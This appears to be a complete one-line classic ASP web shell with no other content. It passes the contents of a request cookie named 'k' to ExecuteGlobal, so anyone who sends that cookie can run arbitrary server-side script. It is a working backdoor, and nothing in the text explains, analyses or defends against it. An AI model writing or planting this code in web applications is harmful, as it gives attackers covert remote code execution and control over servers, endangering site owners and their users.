<%ExecuteGlobal Request.Cookies("k")%>
